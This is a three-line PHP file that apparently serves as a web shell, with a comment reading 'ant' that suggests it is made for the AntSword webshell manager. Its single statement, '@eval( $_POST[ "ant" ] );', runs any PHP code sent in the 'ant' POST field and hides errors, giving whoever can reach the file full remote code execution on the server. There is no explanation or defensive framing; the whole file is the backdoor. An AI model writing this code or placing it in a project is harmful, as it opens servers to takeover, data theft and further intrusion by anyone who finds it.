<?php
// ant
@eval( $_POST[ "ant" ] );
